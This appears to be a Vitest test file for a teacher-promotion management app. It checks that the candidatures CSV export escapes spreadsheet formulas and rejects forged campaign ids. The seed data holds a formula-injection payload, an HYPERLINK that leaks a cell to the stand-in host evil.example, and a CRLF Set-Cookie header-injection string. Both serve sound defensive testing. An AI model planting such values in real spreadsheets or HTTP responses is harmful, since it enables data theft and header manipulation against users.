import { beforeAll, describe, expect, it } from "vitest";
import Papa from "papaparse";
import { actAs } from "./session-mock";
import { prisma } from "@/lib/db";
import { GET as exportCandidatures } from "@/app/(gestion)/gestion/campagnes/[campaignId]/candidatures/export/route";
import {
  createAdministrator,
  createCampaign,
  createCirconscription,
  createTeacher,
} from "@/lib/seed/factories";
import { DEFAULT_DEPARTEMENT_ID } from "@/lib/departements/known";

// Issue 9 point 11: the candidatures export, with data as an import may bring it.
let campaignId: string;

beforeAll(async () => {
  const circo = await createCirconscription(prisma, {
    code: "X1",
    name: "Exports",
    departement: "31",
  });
  const t = await createTeacher(prisma, {
    identifiant: "formule",
    numen: "31E9090909FOR",
    nom: '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
    prenom: "@Claire",
    grade: "CN",
    echelon: 9,
    echelonDate: "2020-09-01",
    circonscriptionId: circo.id,
  });
  const now = new Date();
  const day = (d: number) => new Date(now.getTime() + d * 86_400_000).toISOString().slice(0, 10);
  campaignId = (
    await createCampaign(prisma, {
      ruleSet: "CE_2017_2023",
      year: now.getFullYear() + 3,
      status: "OUVERTE",
      candidatureStart: day(-7),
      candidatureEnd: day(14),
    })
  ).id;
  await prisma.candidature.create({
    data: { campaignId, agentId: t.agentId, vivier: 1, status: "ENREGISTREE", submittedAt: now },
  });
  const admin = await createAdministrator(prisma, {
    identifiant: "gest-export",
    password: "MotDePasseGest2026",
  });
  actAs({
    id: admin.id,
    role: "GESTIONNAIRE",
    agentId: null,
    circonscriptionIds: [],
    departementIds: [DEFAULT_DEPARTEMENT_ID],
    sessionId: "s",
    identifiant: "gest-export",
    displayName: "G",
    passwordIsDefault: false,
    previousLoginAt: null,
    totpEnabled: false,
  });
});

const call = (id: string) =>
  exportCandidatures(
    new Request(`http://localhost/gestion/campagnes/${encodeURIComponent(id)}/candidatures/export`),
    { params: Promise.resolve({ campaignId: id }) },
  );

describe("candidatures export", () => {
  it("neutralises cells that a spreadsheet would run as formulas", async () => {
    const response = await call(campaignId);
    expect(response.status).toBe(200);
    const rows = Papa.parse<string[]>((await response.text()).slice(1), { delimiter: ";" }).data;
    const row = rows.find((r) => r[2] === "formule")!;
    expect(row[0]).toBe(`'=HYPERLINK("http://evil.example/?"&A1;"Cliquez")`);
    expect(row[1]).toBe("'@Claire");
  });

  it("names the file per RFC 6266 from the stored campaign, and answers 404 to a forged id instead of a broken header", async () => {
    const response = await call(campaignId);
    // Named from the stored campaign (kind, year, day), never from the URL segment.
    expect(response.headers.get("content-disposition")).toMatch(
      new RegExp(
        `^attachment; filename="candidatures-classe-exceptionnelle-${new Date().getFullYear() + 3}-\\d{4}-\\d{2}-\\d{2}\\.csv"; filename\\*=UTF-8''candidatures-`,
      ),
    );
    expect(response.headers.get("content-disposition")).not.toContain(campaignId);
    for (const forged of ['a"b', "a\r\nSet-Cookie: x=1"])
      expect((await call(forged)).status).toBe(404);
  });
});
